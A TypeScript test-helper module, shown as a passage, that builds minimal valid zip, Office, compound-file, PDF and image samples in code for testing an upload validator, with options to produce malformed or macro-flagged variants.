/**
 * Sample upload files, built in code: minimal but structurally valid documents of every
 * allowed type (for tests and the browser journey), the writers used to build them (zip,
 * compound file, PDF), and a corpus of bad uploads with the reason each must be refused for
 * (QUALITY R9). Nothing here is read from disk, so the samples cannot drift from the code.
 */
import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { deflateRawSync, deflateSync } from 'node:zlib';

const MIB = 1024 * 1024;

// ---------------------------------------------------------------------------------------------
// Small binary helpers

const CRC_TABLE = (() => {
  const table = new Uint32Array(256);
  for (let n = 0; n < 256; n++) {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    table[n] = c >>> 0;
  }
  return table;
})();

/** CRC-32 as zip and PNG use it (node:zlib has crc32 only from Node 22). */
export function crc32(bytes: Uint8Array): number {
  let crc = 0xffffffff;
  for (let i = 0; i < bytes.length; i++) crc = CRC_TABLE[(crc ^ bytes[i]!) & 0xff]! ^ (crc >>> 8);
  return ~crc >>> 0;
}

const u16le = (value: number) => {
  const b = Buffer.alloc(2);
  b.writeUInt16LE(value);
  return b;
};
const u32le = (value: number) => {
  const b = Buffer.alloc(4);
  b.writeUInt32LE(value >>> 0);
  return b;
};
const u64le = (value: number) => {
  const b = Buffer.alloc(8);
  b.writeBigUInt64LE(BigInt(value));
  return b;
};
const u32be = (value: number) => {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(value >>> 0);
  return b;
};
const latin1 = (text: string) => Buffer.from(text, 'latin1');
const toBuffer = (data: Buffer | string) =>
  typeof data === 'string' ? Buffer.from(data, 'utf8') : data;

/** Writes `bytes` to `dir/name` (creating `dir`) and returns the file's path. */
export async function writeSample(dir: string, name: string, bytes: Buffer): Promise<string> {
  await mkdir(dir, { recursive: true });
  const file = path.join(dir, name);
  await writeFile(file, bytes);
  return file;
}

// ---------------------------------------------------------------------------------------------
// Zip writer

/** One entry of {@link buildZip}; the `declared*`/`flags` fields exist to build bad zips. */
export interface ZipEntrySpec {
  name: string;
  data: Buffer | string;
  /** 'deflate' (default) or 'store'. */
  method?: 'deflate' | 'store';
  /** General-purpose flags to set (e.g. 0x1: encrypted). UTF-8 names (0x800) are always set. */
  flags?: number;
  /** Uncompressed size to declare instead of the real one. */
  declaredUncompressedSize?: number;
}

export interface ZipOptions {
  /** Write ZIP64 end records (as some OOXML writers do even for small files). */
  zip64?: boolean;
  comment?: string;
}

/** A zip archive with stored or deflated entries, local headers and a central directory. */
export function buildZip(entries: ZipEntrySpec[], options: ZipOptions = {}): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const data = toBuffer(entry.data);
    const stored = entry.method === 'store';
    const compressed = stored ? data : deflateRawSync(data);
    const name = Buffer.from(entry.name, 'utf8');
    const flags = 0x800 | (entry.flags ?? 0);
    const method = stored ? 0 : 8;
    const crc = crc32(data);
    const uncompressedSize = entry.declaredUncompressedSize ?? data.length;
    // 1980-01-01 00:00 in DOS format: reproducible archives.
    const common = Buffer.concat([
      u16le(20),
      u16le(flags),
      u16le(method),
      u16le(0),
      u16le(0x21),
      u32le(crc),
      u32le(compressed.length),
      u32le(uncompressedSize),
      u16le(name.length),
      u16le(0),
    ]);
    const local = Buffer.concat([u32le(0x04034b50), common, name, compressed]);
    centrals.push(
      Buffer.concat([
        u32le(0x02014b50),
        u16le(20),
        common,
        u16le(0), // comment length
        u16le(0), // disk
        u16le(0), // internal attributes
        u32le(0), // external attributes
        u32le(offset),
        name,
      ]),
    );
    locals.push(local);
    offset += local.length;
  }
  const cd = Buffer.concat(centrals);
  const comment = Buffer.from(options.comment ?? '', 'utf8');
  const tail: Buffer[] = [];
  if (options.zip64) {
    const recordOffset = offset + cd.length;
    tail.push(
      Buffer.concat([
        u32le(0x06064b50),
        u64le(44), // size of the rest of the record
        u16le(45),
        u16le(45),
        u32le(0),
        u32le(0),
        u64le(entries.length),
        u64le(entries.length),
        u64le(cd.length),
        u64le(offset),
      ]),
      Buffer.concat([u32le(0x07064b50), u32le(0), u64le(recordOffset), u32le(1)]),
      Buffer.concat([
        u32le(0x06054b50),
        u16le(0),
        u16le(0),
        u16le(0xffff),
        u16le(0xffff),
        u32le(0xffffffff),
        u32le(0xffffffff),
        u16le(comment.length),
        comment,
      ]),
    );
  } else {
    tail.push(
      Buffer.concat([
        u32le(0x06054b50),
        u16le(0),
        u16le(0),
        u16le(entries.length),
        u16le(entries.length),
        u32le(cd.length),
        u32le(offset),
        u16le(comment.length),
        comment,
      ]),
    );
  }
  return Buffer.concat([...locals, cd, ...tail]);
}

// ---------------------------------------------------------------------------------------------
// Office Open XML (.docx .pptx .xlsx)

const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const OD = 'application/vnd.openxmlformats-officedocument';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PKG_REL = 'http://schemas.openxmlformats.org/package/2006/relationships';
const NS_W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const NS_P = 'http://schemas.openxmlformats.org/presentationml/2006/main';
const NS_A = 'http://schemas.openxmlformats.org/drawingml/2006/main';
const NS_S = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';

/** Main-part content types, as in [Content_Types].xml. */
export const OOXML_MAIN_CONTENT_TYPES = {
  docx: `${OD}.wordprocessingml.document.main+xml`,
  pptx: `${OD}.presentationml.presentation.main+xml`,
  xlsx: `${OD}.spreadsheetml.sheet.main+xml`,
  docm: 'application/vnd.ms-word.document.macroEnabled.main+xml',
  pptm: 'application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml',
  xlsm: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
} as const;

export type OoxmlKind = 'docx' | 'pptx' | 'xlsx';

interface OoxmlPart {
  name: string;
  contentType?: string;
  data: Buffer | string;
}

function relationships(rels: [id: string, type: string, target: string][]): string {
  const items = rels.map(
    ([id, type, target]) => `<Relationship Id="${id}" Type="${REL}/${type}" Target="${target}"/>`,
  );
  return `${XML}<Relationships xmlns="${PKG_REL}">${items.join('')}</Relationships>`;
}

const THEME = `${XML}<a:theme xmlns:a="${NS_A}" name="Sample"><a:themeElements>
<a:clrScheme name="Sample"><a:dk1><a:sysClr val="windowText" lastClr="000000"/></a:dk1><a:lt1><a:sysClr val="window" lastClr="FFFFFF"/></a:lt1><a:dk2><a:srgbClr val="1F497D"/></a:dk2><a:lt2><a:srgbClr val="EEECE1"/></a:lt2><a:accent1><a:srgbClr val="4F81BD"/></a:accent1><a:accent2><a:srgbClr val="C0504D"/></a:accent2><a:accent3><a:srgbClr val="9BBB59"/></a:accent3><a:accent4><a:srgbClr val="8064A2"/></a:accent4><a:accent5><a:srgbClr val="4BACC6"/></a:accent5><a:accent6><a:srgbClr val="F79646"/></a:accent6><a:hlink><a:srgbClr val="0000FF"/></a:hlink><a:folHlink><a:srgbClr val="800080"/></a:folHlink></a:clrScheme>
<a:fontScheme name="Sample"><a:majorFont><a:latin typeface="Calibri"/><a:ea typeface=""/><a:cs typeface=""/></a:majorFont><a:minorFont><a:latin typeface="Calibri"/><a:ea typeface=""/><a:cs typeface=""/></a:minorFont></a:fontScheme>
<a:fmtScheme name="Sample"><a:fillStyleLst><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:fillStyleLst><a:lnStyleLst><a:ln w="9525"><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:ln><a:ln w="25400"><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:ln><a:ln w="38100"><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:ln></a:lnStyleLst><a:effectStyleLst><a:effectStyle><a:effectLst/></a:effectStyle><a:effectStyle><a:effectLst/></a:effectStyle><a:effectStyle><a:effectLst/></a:effectStyle></a:effectStyleLst><a:bgFillStyleLst><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:bgFillStyleLst></a:fmtScheme>
</a:themeElements></a:theme>`;

const EMPTY_SHAPE_TREE =
  '<p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/></p:spTree></p:cSld>';

function ooxmlParts(kind: OoxmlKind): OoxmlPart[] {
  switch (kind) {
    case 'docx':
      return [
        {
          name: '_rels/.rels',
          data: relationships([['rId1', 'officeDocument', 'word/document.xml']]),
        },
        {
          name: 'word/document.xml',
          contentType: OOXML_MAIN_CONTENT_TYPES.docx,
          data: `${XML}<w:document xmlns:w="${NS_W}"><w:body><w:p><w:r><w:t>Contoso one-pager</w:t></w:r></w:p><w:sectPr/></w:body></w:document>`,
        },
      ];
    case 'pptx':
      return [
        {
          name: '_rels/.rels',
          data: relationships([['rId1', 'officeDocument', 'ppt/presentation.xml']]),
        },
        {
          name: 'ppt/presentation.xml',
          contentType: OOXML_MAIN_CONTENT_TYPES.pptx,
          data: `${XML}<p:presentation xmlns:a="${NS_A}" xmlns:r="${REL}" xmlns:p="${NS_P}"><p:sldMasterIdLst><p:sldMasterId id="2147483648" r:id="rId1"/></p:sldMasterIdLst><p:sldIdLst><p:sldId id="256" r:id="rId2"/></p:sldIdLst><p:sldSz cx="12192000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>`,
        },
        {
          name: 'ppt/_rels/presentation.xml.rels',
          data: relationships([
            ['rId1', 'slideMaster', 'slideMasters/slideMaster1.xml'],
            ['rId2', 'slide', 'slides/slide1.xml'],
            ['rId3', 'theme', 'theme/theme1.xml'],
          ]),
        },
        {
          name: 'ppt/slides/slide1.xml',
          contentType: `${OD}.presentationml.slide+xml`,
          data: `${XML}<p:sld xmlns:a="${NS_A}" xmlns:r="${REL}" xmlns:p="${NS_P}">${EMPTY_SHAPE_TREE}</p:sld>`,
        },
        {
          name: 'ppt/slides/_rels/slide1.xml.rels',
          data: relationships([['rId1', 'slideLayout', '../slideLayouts/slideLayout1.xml']]),
        },
        {
          name: 'ppt/slideLayouts/slideLayout1.xml',
          contentType: `${OD}.presentationml.slideLayout+xml`,
          data: `${XML}<p:sldLayout xmlns:a="${NS_A}" xmlns:r="${REL}" xmlns:p="${NS_P}" type="blank">${EMPTY_SHAPE_TREE}</p:sldLayout>`,
        },
        {
          name: 'ppt/slideLayouts/_rels/slideLayout1.xml.rels',
          data: relationships([['rId1', 'slideMaster', '../slideMasters/slideMaster1.xml']]),
        },
        {
          name: 'ppt/slideMasters/slideMaster1.xml',
          contentType: `${OD}.presentationml.slideMaster+xml`,
          data: `${XML}<p:sldMaster xmlns:a="${NS_A}" xmlns:r="${REL}" xmlns:p="${NS_P}">${EMPTY_SHAPE_TREE}<p:clrMap bg1="lt1" tx1="dk1" bg2="lt2" tx2="dk2" accent1="accent1" accent2="accent2" accent3="accent3" accent4="accent4" accent5="accent5" accent6="accent6" hlink="hlink" folHlink="folHlink"/><p:sldLayoutIdLst><p:sldLayoutId id="2147483649" r:id="rId1"/></p:sldLayoutIdLst></p:sldMaster>`,
        },
        {
          name: 'ppt/slideMasters/_rels/slideMaster1.xml.rels',
          data: relationships([
            ['rId1', 'slideLayout', '../slideLayouts/slideLayout1.xml'],
            ['rId2', 'theme', '../theme/theme1.xml'],
          ]),
        },
        { name: 'ppt/theme/theme1.xml', contentType: `${OD}.theme+xml`, data: THEME },
      ];
    case 'xlsx':
      return [
        {
          name: '_rels/.rels',
          data: relationships([['rId1', 'officeDocument', 'xl/workbook.xml']]),
        },
        {
          name: 'xl/workbook.xml',
          contentType: OOXML_MAIN_CONTENT_TYPES.xlsx,
          data: `${XML}<workbook xmlns="${NS_S}" xmlns:r="${REL}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`,
        },
        {
          name: 'xl/_rels/workbook.xml.rels',
          data: relationships([['rId1', 'worksheet', 'worksheets/sheet1.xml']]),
        },
        {
          name: 'xl/worksheets/sheet1.xml',
          contentType: `${OD}.spreadsheetml.worksheet+xml`,
          data: `${XML}<worksheet xmlns="${NS_S}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Contoso</t></is></c></row></sheetData></worksheet>`,
        },
      ];
  }
}

export interface OoxmlOptions {
  /** Content type to declare for the main part instead of the right one. */
  mainContentType?: string;
  /** More parts (e.g. "word/vbaProject.bin"), with an Override when `contentType` is set. */
  extraParts?: OoxmlPart[];
  /** Entry method for every part. */
  method?: 'deflate' | 'store';
  zip64?: boolean;
}

/** A minimal Office Open XML package of the given kind. */
export function buildOoxml(kind: OoxmlKind, options: OoxmlOptions = {}): Buffer {
  const parts = [...ooxmlParts(kind), ...(options.extraParts ?? [])];
  const mainType = OOXML_MAIN_CONTENT_TYPES[kind];
  const overrides = parts
    .filter((part) => part.contentType)
    .map((part) => {
      const type =
        part.contentType === mainType ? (options.mainContentType ?? mainType) : part.contentType;
      return `<Override PartName="/${part.name}" ContentType="${type}"/>`;
    });
  const contentTypes = `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>${overrides.join('')}</Types>`;
  return buildZip(
    [{ name: '[Content_Types].xml', data: contentTypes }, ...parts].map((part) => ({
      name: part.name,
      data: part.data,
      method: options.method ?? 'deflate',
    })),
    { zip64: options.zip64 ?? false },
  );
}

/** A one-paragraph Word document. */
export const sampleDocx = (): Buffer => buildOoxml('docx');
/** A one-slide presentation with its master, layout and theme. */
export const samplePptx = (): Buffer => buildOoxml('pptx');
/** A one-sheet workbook with one cell. */
export const sampleXlsx = (): Buffer => buildOoxml('xlsx');

// ---------------------------------------------------------------------------------------------
// Compound files (.doc .ppt .xls), [MS-CFB] version 3

/** A stream (`data`) or a storage (`children`) of {@link buildCompoundFile}. */
export interface CfbNode {
  name: string;
  data?: Buffer;
  children?: CfbNode[];
}

const CFB_SECTOR = 512;
const CFB_MINI = 64;
const CFB_CUTOFF = 4096;
const END_OF_CHAIN = 0xfffffffe;
const FREE = 0xffffffff;
const FAT_SECTOR = 0xfffffffd;
const NO_STREAM = 0xffffffff;

interface FlatEntry {
  name: string;
  type: 1 | 2 | 5;
  data?: Buffer;
  left: number;
  right: number;
  child: number;
  start: number;
  size: number;
}

/** CFB sibling order: shorter names first, then by upper-cased code units. */
function cfbCompare(a: string, b: string): number {
  if (a.length !== b.length) return a.length - b.length;
  const x = a.toUpperCase();
  const y = b.toUpperCase();
  return x < y ? -1 : x > y ? 1 : 0;
}

/**
 * A version-3 compound file (512-byte sectors): streams under 4096 bytes go to the mini
 * stream, larger ones to regular sectors; siblings form a balanced binary tree.
 */
export function buildCompoundFile(nodes: CfbNode[]): Buffer {
  const entries: FlatEntry[] = [
    {
      name: 'Root Entry',
      type: 5,
      left: NO_STREAM,
      right: NO_STREAM,
      child: NO_STREAM,
      start: END_OF_CHAIN,
      size: 0,
    },
  ];
  const addChildren = (parent: number, children: CfbNode[]) => {
    const indexes = [...children]
      .sort((a, b) => cfbCompare(a.name, b.name))
      .map((node) => {
        const index = entries.length;
        entries.push({
          name: node.name,
          type: node.children ? 1 : 2,
          ...(node.data ? { data: node.data } : {}),
          left: NO_STREAM,
          right: NO_STREAM,
          child: NO_STREAM,
          start: END_OF_CHAIN,
          size: node.data?.length ?? 0,
        });
        return { index, node };
      });
    const tree = (from: number, to: number): number => {
      if (from > to) return NO_STREAM;
      const mid = (from + to) >> 1;
      const entry = entries[indexes[mid]!.index]!;
      entry.left = tree(from, mid - 1);
      entry.right = tree(mid + 1, to);
      return indexes[mid]!.index;
    };
    entries[parent]!.child = tree(0, indexes.length - 1);
    for (const { index, node } of indexes) if (node.children) addChildren(index, node.children);
  };
  addChildren(0, nodes);

  const streams = entries.filter((e) => e.type === 2);
  const small = streams.filter((e) => e.size < CFB_CUTOFF);
  const large = streams.filter((e) => e.size >= CFB_CUTOFF);

  // Mini stream and mini FAT.
  const miniFat: number[] = [];
  const miniParts: Buffer[] = [];
  for (const entry of small) {
    const count = Math.ceil(entry.size / CFB_MINI);
    entry.start = count === 0 ? END_OF_CHAIN : miniFat.length;
    for (let i = 0; i < count; i++)
      miniFat.push(i === count - 1 ? END_OF_CHAIN : miniFat.length + 1);
    miniParts.push(entry.data!, Buffer.alloc(count * CFB_MINI - entry.size));
  }
  const miniStream = Buffer.concat(miniParts);

  const sectorsFor = (bytes: number) => Math.ceil(bytes / CFB_SECTOR);
  const dirSectors = sectorsFor(entries.length * 128);
  const miniFatSectors = sectorsFor(miniFat.length * 4);
  const miniStreamSectors = sectorsFor(miniStream.length);
  const largeSectors = large.map((e) => sectorsFor(e.size));
  const other =
    dirSectors + miniFatSectors + miniStreamSectors + largeSectors.reduce((a, b) => a + b, 0);
  let fatSectors = 1;
  while (fatSectors * (CFB_SECTOR / 4) < other + fatSectors) fatSectors++;
  if (fatSectors > 109) throw new Error('compound file too large for this writer');

  const fat: number[] = [];
  const allocate = (count: number): number => {
    const start = fat.length;
    for (let i = 0; i < count; i++) fat.push(i === count - 1 ? END_OF_CHAIN : fat.length + 1);
    return count === 0 ? END_OF_CHAIN : start;
  };
  for (let i = 0; i < fatSectors; i++) fat.push(FAT_SECTOR);
  const dirStart = allocate(dirSectors);
  const miniFatStart = allocate(miniFatSectors);
  const miniStreamStart = allocate(miniStreamSectors);
  large.forEach((entry, i) => (entry.start = allocate(largeSectors[i]!)));
  entries[0]!.start = miniStreamStart;
  entries[0]!.size = miniStream.length;
  while (fat.length < fatSectors * (CFB_SECTOR / 4)) fat.push(FREE);

  const header = Buffer.alloc(CFB_SECTOR);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(header, 0);
  header.writeUInt16LE(0x3e, 0x18);
  header.writeUInt16LE(3, 0x1a);
  header.writeUInt16LE(0xfffe, 0x1c);
  header.writeUInt16LE(9, 0x1e);
  header.writeUInt16LE(6, 0x20);
  header.writeUInt32LE(fatSectors, 0x2c);
  header.writeUInt32LE(dirStart, 0x30);
  header.writeUInt32LE(CFB_CUTOFF, 0x38);
  header.writeUInt32LE(miniFatStart, 0x3c);
  header.writeUInt32LE(miniFatSectors, 0x40);
  header.writeUInt32LE(END_OF_CHAIN, 0x44);
  for (let i = 0; i < 109; i++) header.writeUInt32LE(i < fatSectors ? i : FREE, 0x4c + i * 4);

  const pad = (bytes: Buffer, sectors: number) => {
    const out = Buffer.alloc(sectors * CFB_SECTOR);
    bytes.copy(out);
    return out;
  };
  const fatBytes = Buffer.concat(fat.map(u32le));
  const directory = Buffer.alloc(dirSectors * CFB_SECTOR);
  for (let i = 0; i < dirSectors * (CFB_SECTOR / 128); i++) {
    const at = i * 128;
    const entry = entries[i];
    directory.writeUInt32LE(NO_STREAM, at + 0x44);
    directory.writeUInt32LE(NO_STREAM, at + 0x48);
    directory.writeUInt32LE(NO_STREAM, at + 0x4c);
    if (!entry) continue;
    const name = Buffer.from(entry.name, 'utf16le');
    name.copy(directory, at);
    directory.writeUInt16LE(name.length + 2, at + 0x40);
    directory.writeUInt8(entry.type, at + 0x42);
    directory.writeUInt8(1, at + 0x43); // black
    directory.writeUInt32LE(entry.left, at + 0x44);
    directory.writeUInt32LE(entry.right, at + 0x48);
    directory.writeUInt32LE(entry.child, at + 0x4c);
    directory.writeUInt32LE(entry.type === 1 ? 0 : entry.start, at + 0x74);
    directory.writeUInt32LE(entry.type === 1 ? 0 : entry.size, at + 0x78);
  }
  return Buffer.concat([
    header,
    fatBytes,
    directory,
    pad(Buffer.concat(miniFat.map(u32le)), miniFatSectors),
    pad(miniStream, miniStreamSectors),
    ...large.map((entry, i) => pad(entry.data!, largeSectors[i]!)),
  ]);
}

/** A WordDocument stream starting with a Word 97 FIB (magic 0xA5EC), 4 KiB so not mini. */
export function wordDocumentStream(options: { encrypted?: boolean } = {}): Buffer {
  const stream = Buffer.alloc(4096);
  stream.writeUInt16LE(0xa5ec, 0); // wIdent
  stream.writeUInt16LE(0x00c1, 2); // nFib: Word 97
  stream.writeUInt16LE(options.encrypted ? 0x0100 : 0, 0x0a);
  return stream;
}

function biffRecord(type: number, body: Buffer = Buffer.alloc(0)): Buffer {
  return Buffer.concat([u16le(type), u16le(body.length), body]);
}

/**
 * A BIFF8 Workbook stream: globals (BOF, one BOUNDSHEET of sheet type `sheetType`, EOF) and
 * the sheet's own BOF/EOF. Sheet type 1 is an Excel 4.0 macro sheet.
 */
export function workbookStream(options: { sheetType?: number; filePass?: boolean } = {}): Buffer {
  const bof = (dt: number) =>
    biffRecord(
      0x0809,
      Buffer.concat([u16le(0x0600), u16le(dt), u16le(0x0dbb), u16le(0x07cc), u32le(0), u32le(6)]),
    );
  const sheetName = Buffer.concat([Buffer.from([6, 0]), latin1('Sheet1')]);
  const globals = (sheetOffset: number) =>
    Buffer.concat([
      bof(0x0005),
      ...(options.filePass ? [biffRecord(0x002f, Buffer.alloc(6))] : []),
      biffRecord(
        0x0085,
        Buffer.concat([u32le(sheetOffset), Buffer.from([0, options.sheetType ?? 0]), sheetName]),
      ),
      biffRecord(0x000a),
    ]);
  const sheetOffset = globals(0).length;
  return Buffer.concat([globals(sheetOffset), bof(0x0010), biffRecord(0x000a)]);
}

function pptRecord(verInstance: number, type: number, body: Buffer): Buffer {
  return Buffer.concat([u16le(verInstance), u16le(type), u32le(body.length), body]);
}

/**
 * A PowerPoint Document stream: a DocumentContainer with a DocumentAtom and an
 * EndDocumentAtom, and a VBAInfoContainer when `vba` is set (a macro-enabled .ppt).
 */
export function powerPointStream(options: { vba?: boolean } = {}): Buffer {
  const documentAtom = pptRecord(0x0001, 0x03e9, Buffer.alloc(40));
  const vbaInfo = pptRecord(0x000f, 0x03ff, pptRecord(0x0002, 0x0400, Buffer.alloc(12)));
  const end = pptRecord(0x000f, 0x03ea, Buffer.alloc(0));
  return pptRecord(
    0x000f,
    0x03e8,
    Buffer.concat([documentAtom, ...(options.vba ? [vbaInfo] : []), end]),
  );
}

const summaryInformation = (): CfbNode => ({
  name: '\u0005SummaryInformation',
  data: Buffer.alloc(200),
});

/** A Word 97–2003 document: WordDocument, 1Table and summary streams. */
export const sampleDoc = (): Buffer =>
  buildCompoundFile([
    { name: 'WordDocument', data: wordDocumentStream() },
    { name: '1Table', data: Buffer.alloc(1024) },
    summaryInformation(),
  ]);

/** A PowerPoint 97–2003 presentation: "PowerPoint Document" and "Current User" streams. */
export const samplePpt = (): Buffer =>
  buildCompoundFile([
    { name: 'PowerPoint Document', data: powerPointStream() },
    { name: 'Current User', data: Buffer.alloc(64) },
    summaryInformation(),
  ]);

/** An Excel 97–2003 workbook: a Workbook stream with one worksheet. */
export const sampleXls = (): Buffer =>
  buildCompoundFile([{ name: 'Workbook', data: workbookStream() }, summaryInformation()]);

// ---------------------------------------------------------------------------------------------
// PDF

/** A stream object body with its /Length. */
export function pdfStream(dictionary: string, data: Buffer | string): Buffer {
  const bytes = toBuffer(data);
  return Buffer.concat([
    latin1(`<< ${dictionary} /Length ${bytes.length} >>\nstream\n`),
    bytes,
    latin1('\nendstream'),
  ]);
}

/**
 * A PDF with a classic cross-reference table; `objects[i]` is the body of object i + 1, and
 * object 1 must be the catalog.
 */
export function buildPdf(
  objects: (string | Buffer)[],
  options: { version?: string; trailer?: string } = {},
): Buffer {
  const parts: Buffer[] = [latin1(`%PDF-${options.version ?? '1.7'}\n%\xe2\xe3\xcf\xd3\n`)];
  let offset = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(offset);
    const bytes = Buffer.concat([latin1(`${i + 1} 0 obj\n`), toBuffer(body), latin1('\nendobj\n')]);
    parts.push(bytes);
    offset += bytes.length;
  });
  const xref = [
    `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`,
    ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`),
    `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${options.trailer ?? ''}>>\n`,
    `startxref\n${offset}\n%%EOF\n`,
  ].join('');
  return Buffer.concat([...parts, latin1(xref)]);
}

const PAGE_CONTENT = 'BT /F1 24 Tf 72 720 Td (Contoso one-pager) Tj ET';

/** Catalog, pages, page, font and content objects; `catalogExtra` goes into the catalog. */
function pdfPageObjects(catalogExtra = ''): string[] {
  return [
    `<< /Type /Catalog /Pages 2 0 R ${catalogExtra}>>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
}

/** A one-page PDF 1.7 with one line of text. */
export function samplePdf(options: { catalogExtra?: string; info?: string } = {}): Buffer {
  const objects: (string | Buffer)[] = [
    ...pdfPageObjects(options.catalogExtra),
    pdfStream('', PAGE_CONTENT),
  ];
  if (options.info) objects.push(options.info);
  return buildPdf(objects, options.info ? { trailer: `/Info ${objects.length} 0 R ` } : {});
}

/**
 * A PDF 1.5-style file whose catalog, pages and page sit in a compressed object stream, with
 * a cross-reference stream (as most current PDF writers produce). `catalogExtra` lands inside
 * the compressed stream.
 */
export function samplePdfWithObjectStream(catalogExtra = ''): Buffer {
  const [catalog, pages, page, font] = pdfPageObjects(catalogExtra) as [
    string,
    string,
    string,
    string,
  ];
  const compressedObjects = [catalog, pages, page];
  let index = '';
  let body = '';
  compressedObjects.forEach((object, i) => {
    index += `${i + 1} ${body.length} `;
    body += `${object}\n`;
  });
  const objStmData = deflateSync(Buffer.from(index + body, 'latin1'));
  const objStm = pdfStream(
    `/Type /ObjStm /N 3 /First ${index.length} /Filter /FlateDecode`,
    objStmData,
  );
  // Objects 1–3 compressed in 6; 4 font, 5 content, 6 object stream, 7 xref stream.
  const head = latin1('%PDF-1.5\n%\xe2\xe3\xcf\xd3\n');
  const plain: [number, Buffer][] = [
    [4, latin1(font)],
    [5, pdfStream('', PAGE_CONTENT)],
    [6, objStm],
  ];
  const parts: Buffer[] = [head];
  const offsets = new Map<number, number>();
  let offset = head.length;
  for (const [number, object] of plain) {
    offsets.set(number, offset);
    const bytes = Buffer.concat([latin1(`${number} 0 obj\n`), object, latin1('\nendobj\n')]);
    parts.push(bytes);
    offset += bytes.length;
  }
  offsets.set(7, offset);
  const row = (type: number, field2: number, field3: number) =>
    Buffer.concat([Buffer.from([type]), u32be(field2), Buffer.from([field3 >> 8, field3 & 0xff])]);
  const xrefData = Buffer.concat([
    row(0, 0, 0xffff),
    row(2, 6, 0),
    row(2, 6, 1),
    row(2, 6, 2),
    row(1, offsets.get(4)!, 0),
    row(1, offsets.get(5)!, 0),
    row(1, offsets.get(6)!, 0),
    row(1, offsets.get(7)!, 0),
  ]);
  const xref = pdfStream(
    '/Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode',
    deflateSync(xrefData),
  );
  parts.push(latin1('7 0 obj\n'), xref, latin1(`\nendobj\nstartxref\n${offset}\n%%EOF\n`));
  return Buffer.concat(parts);
}

// ---------------------------------------------------------------------------------------------
// Images and video

/**
 * A 1×1 grey baseline JPEG: JFIF, one quantisation table, a frame, one-code DC and AC
 * Huffman tables, and a scan whose only block is "DC difference 0, end of block".
 */
export function sampleJpg(): Buffer {
  const segment = (marker: number, body: Buffer) =>
    Buffer.concat([Buffer.from([0xff, marker]), u16be(body.length + 2), body]);
  const huffman = (tableClass: number) =>
    Buffer.concat([
      Buffer.from([tableClass << 4]),
      Buffer.from([1, ...new Array<number>(15).fill(0)]),
      Buffer.from([0]),
    ]);
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xe0, Buffer.concat([latin1('JFIF\0'), Buffer.from([1, 1, 0, 0, 1, 0, 1, 0, 0])])),
    segment(0xdb, Buffer.concat([Buffer.from([0]), Buffer.alloc(64, 1)])),
    segment(0xc0, Buffer.from([8, 0, 1, 0, 1, 1, 1, 0x11, 0])),
    segment(0xc4, huffman(0)),
    segment(0xc4, huffman(1)),
    segment(0xda, Buffer.from([1, 1, 0, 0, 63, 0])),
    Buffer.from([0x3f]),
    Buffer.from([0xff, 0xd9]),
  ]);
}

function u16be(value: number): Buffer {
  const b = Buffer.alloc(2);
  b.writeUInt16BE(value);
  return b;
}

function pngChunk(type: string, body: Buffer): Buffer {
  const typeAndBody = Buffer.concat([latin1(type), body]);
  return Buffer.concat([u32be(body.length), typeAndBody, u32be(crc32(typeAndBody))]);
}

/** A 1×1 RGBA PNG (Contoso blue). */
export function samplePng(): Buffer {
  const ihdr = Buffer.concat([u32be(1), u32be(1), Buffer.from([8, 6, 0, 0, 0])]);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(Buffer.from([0, 0x00, 0x78, 0xd4, 0xff]))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A 1×1 GIF89a. */
export function sampleGif(): Buffer {
  return Buffer.concat([
    latin1('GIF89a'),
    Buffer.from([1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0, 0xff, 0xff, 0xff]),
    Buffer.from([0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 0x01, 0]),
    Buffer.from([0x3b]),
  ]);
}

function box(type: string, body: Buffer): Buffer {
  return Buffer.concat([u32be(body.length + 8), latin1(type), body]);
}

